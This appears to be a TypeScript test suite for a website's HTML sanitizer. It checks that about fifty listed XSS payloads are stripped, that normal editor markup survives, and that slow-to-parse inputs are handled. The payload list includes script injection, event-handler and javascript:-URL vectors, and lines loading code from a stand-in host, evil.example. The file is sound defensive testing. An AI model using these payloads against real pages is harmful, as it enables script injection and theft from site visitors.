import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from '../../../../server/backend/sanitize/sanitize-html.ts';

const FILE = '/nhostprovider/11111111-2222-4333-8444-555555555555';

const TAG = /<(\/?)([a-z0-9]+)((?: [a-z-]+="[^"<>]*")*)( \/)?>/g;
const ALLOWED_TAGS =
  /^(?:p|div|ul|ol|li|dl|dt|dd|blockquote|pre|hr|address|details|summary|figure|figcaption|table|caption|thead|tbody|tfoot|tr|th|td|h2|h3|h4|a|img|strong|em|br|sub|sup|abbr|mark|s|small|span|cite|q|code|kbd|time)$/;
const ALLOWED_ATTRIBUTES =
  /^(?:href|rel|id|title|class|role|aria-label|tabindex|src|srcset|sizes|alt|width|height|loading|decoding|start|reversed|lang|colspan|rowspan|scope|datetime)$/;

/** Every `<` of the text must open or close an allowed tag with allowed, quoted attributes and a harmless address. */
function faultOf(html: string): string | null {
  const rest = html.replaceAll(TAG, '');
  if (rest.includes('<')) return `stray < in ${html}`;
  for (const [tag, , name, attributes] of html.matchAll(TAG)) {
    if (!ALLOWED_TAGS.test(name ?? '')) return `tag ${tag}`;
    for (const [, attribute, value] of (attributes ?? '').matchAll(/ ([a-z-]+)="([^"]*)"/g)) {
      if (!ALLOWED_ATTRIBUTES.test(attribute ?? '')) return `attribute ${attribute}`;
      if (attribute === 'href' && !/^(?:\/(?!\/)|#t-|https?:\/\/|mailto:|tel:)/i.test(value ?? '')) return `address ${value}`;
      if (attribute === 'src' && !(value ?? '').startsWith('/_image?url=%2F')) return `picture ${value}`;
    }
  }
  return null;
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onload="alert(1)" alt="a">',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" JaVaScRiPt:alert(1)">a</a>',
  '<a href="java&#x09;script:alert(1)">a</a>',
  '<a href="java\nscript:alert(1)">a</a>',
  '<a href="&#1;javascript:alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  '<a href="//evil.example/">a</a>',
  '<a href="/\\evil.example/">a</a>',
  '<a href="/\t/evil.example/">a</a>',
  '<a href="https:evil">a</a>',
  '<a href="/x" ping="//evil.example" target="_blank" style="position:fixed">a</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="https://evil.example/p.png">',
  '<img src="/v1/graphql?query={x}">',
  `<img src="${FILE}" srcset="https://evil.example/a.png 2x">`,
  `<img src="/_image?url=https%3A%2F%2Fevil.example%2Fa.png&w=320">`,
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>*{background:url(//evil.example)}</style>',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="//evil.example"><input name=a><button formaction="javascript:alert(1)">a</button></form>',
  '<template><script>alert(1)</script></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<div id="conteudo"><h2 id="__proto__">a</h2><a id="location" name="location">a</a></div>',
  '<abbr title="&quot;><img src=x onerror=alert(1)>">a</abbr>',
  '<p onclick=alert(1) class="oculto" data-acao="x" tabindex="5" contenteditable>a</p>',
  '<details ontoggle=alert(1) open><summary>a</summary>b</details>',
  '<audio src=x onerror=alert(1)><video><source onerror=alert(1)></video>',
  '<table background="javascript:alert(1)"><td onmouseover=alert(1)>a</table>',
  '<a href="&#106;avascript&colon;alert(1)">a</a>',
];

describe('sanitizeHtml keeps attacks out', () => {
  it.each(ATTACKS)('%s', (attack) => {
    for (const profile of ['corpo', 'trecho', 'titulo'] as const) expect(faultOf(sanitizeHtml(attack, profile))).toBeNull();
  });

  it('holds for any mixture of markup, and for what was sanitised before', () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.string({ maxLength: 12 }),
      fc.constantFrom('<', '</', '"', "'", '>', '<p', '<h2>', '</h2>', '<table>', '&lt;', '<!--', '-->'),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), fc.constantFrom('corpo', 'trecho', 'titulo'), (pieces, profile) => {
        const once = sanitizeHtml(pieces.join(''), profile);
        expect(faultOf(once)).toBeNull();
        expect(faultOf(sanitizeHtml(once, profile))).toBeNull();
      }),
      { numRuns: 500 },
    );
  });
});

describe('sanitizeHtml keeps what editors write', () => {
  it.each([
    [
      'paragraphs, lists and emphasis',
      '<p>Um <b>dois</b> <i>três</i></p><ul><li>a</li></ul>',
      '<p>Um <strong>dois</strong> <em>três</em></p><ul><li>a</li></ul>',
    ],
    ['internal links', '<a href="/sic?x=1&amp;y=2">SIC</a>', '<a href="/sic?x=1&amp;y=2">SIC</a>'],
    [
      'telephone and mail links',
      '<a href="tel:+559130000000">a</a><a href="mailto:a@b.gov.br">b</a>',
      '<a href="tel:+559130000000">a</a><a href="mailto:a@b.gov.br">b</a>',
    ],
    [
      'external links, with rel',
      '<a href="https://www.gov.br/x">a</a><a href="http://www.gov.br/x">b</a>',
      '<a href="https://www.gov.br/x" rel="noopener noreferrer external">a</a><a href="http://www.gov.br/x" rel="noopener noreferrer external">b</a>',
    ],
    ['words of an unknown tag', '<font color=red>texto</font>', 'texto'],
    ['an ampersand and a less-than sign', '<p>a &amp; b &lt; c</p>', '<p>a &amp; b &lt; c</p>'],
    ['empty paragraphs away', '<p>&nbsp;</p><h2> </h2><p>a</p>', '<p>a</p>'],
  ])('%s', (_name, html, expected) => {
    expect(sanitizeHtml(html, 'trecho')).toBe(expected);
  });

  it('fits headings of a body under the h1 of the page and gives them ids of their own', () => {
    expect(sanitizeHtml('<h1>Prazos</h1><h3 id="x">Fim</h3><h6>Nota</h6><h2>Prazos</h2>', 'corpo')).toBe(
      '<h2 id="t-prazos">Prazos</h2><h3 id="t-x">Fim</h3><h4 id="t-nota">Nota</h4><h2 id="t-prazos-2">Prazos</h2>',
    );
  });

  it('begins a body at h2 and leaves no gap between levels', () => {
    const levels = Array.from(
      sanitizeHtml('<h4>a</h4><h4>b</h4><h2>c</h2><h6>d</h6><h4>e</h4><h3>f</h3>', 'corpo').matchAll(/<h(\d)/g),
      ([, level]) => level,
    );
    expect(levels).toEqual(['2', '3', '2', '3', '4', '3']);
  });

  it('keeps links to a place in the same text', () => {
    expect(sanitizeHtml('<a href="#Prova de Vida">a</a><h2 id="Prova de Vida">b</h2>', 'corpo')).toBe(
      '<a href="#t-prova-de-vida">a</a><h2 id="t-prova-de-vida">b</h2>',
    );
  });

  it('makes headings of a passage small and leaves them without id', () => {
    expect(sanitizeHtml('<h1>a</h1>', 'trecho')).toBe('<h4>a</h4>');
  });

  it('leaves only words inside a title', () => {
    expect(sanitizeHtml('<p>Carta de <em>serviços</em> <a href="/x">aqui</a></p>', 'titulo')).toBe('Carta de <em>serviços</em> aqui');
  });

  it('puts a table into a box that scrolls, once', () => {
    const once = sanitizeHtml('<table><tbody><tr><td colspan="2">1</td></tr></tbody></table>', 'corpo');
    expect(once).toMatch(/^<div class="tabela-rolavel" role="group" aria-label="[^"]+" tabindex="0"><table>.*<\/table><\/div>$/);
    expect(sanitizeHtml(once, 'corpo')).toBe(once);
  });

  it('makes the empty corner of a table a plain cell', () => {
    const html = sanitizeHtml('<table><tr><th scope="col"> </th><th scope="col">Prazo</th></tr></table>', 'trecho');
    expect(html).toContain('<tr><td></td><th scope="col">Prazo</th></tr>');
  });

  it('sends a picture through the image service, no wider than twice its size', () => {
    const html = sanitizeHtml(`<img src="${FILE}" alt="Fachada" width="300" height="200">`, 'corpo');
    const url = `/_image?url=${encodeURIComponent(FILE)}`;
    expect(html).toContain(`srcset="${url}&amp;w=320&amp;q=80 320w"`);
    expect(html).toContain('alt="Fachada" width="300" height="200" loading="lazy"');
    expect(sanitizeHtml(html, 'corpo')).toBe(html);
  });

  it('leaves the words of a picture that is not ours', () => {
    expect(sanitizeHtml('<img src="https://outro.example/a.png" alt="Gráfico da carteira">', 'corpo')).toBe(
      '<span>Gráfico da carteira</span>',
    );
  });
});

// Each took minutes where the time grew with the square of the length.
describe('a text made to take long', () => {
  const times = (unit: string): string => unit.repeat(Math.ceil(400_000 / unit.length));

  it.each([
    ['the same heading again and again', times('<h2>a</h2>'), '<h2 id="t-a-40000">a</h2>'],
    ['empty headings between others', times('<h2><h3>a</h2>'), '<h3 id="t-a-28572">a</h3>'],
  ])('a text of %s is sanitized to its end', (_case, html, end) => {
    expect(sanitizeHtml(html, 'corpo').endsWith(end)).toBe(true);
  });

  it('is cut at 500,000 characters', () => {
    expect(sanitizeHtml(`<p>${'a'.repeat(8_000_000)}</p>`, 'corpo')).toBe(`<p>${'a'.repeat(499_997)}</p>`);
  });

  it('keeps its words, paragraphs and line breaks alone where more than 512 elements are open at once', () => {
    const deep = (count: number): string => `${'<i>'.repeat(count)}<p>a<br>b${'</x>'.repeat(count)}<p onclick="x()">c<h2>d`;
    expect(sanitizeHtml(deep(100_000), 'corpo')).toBe('<p>a<br />b </p>');
    expect(sanitizeHtml(deep(600), 'corpo')).toBe('<p>a<br />b c d</p>');
    expect(sanitizeHtml(deep(500), 'corpo')).toContain('<em><em>');
  });
});
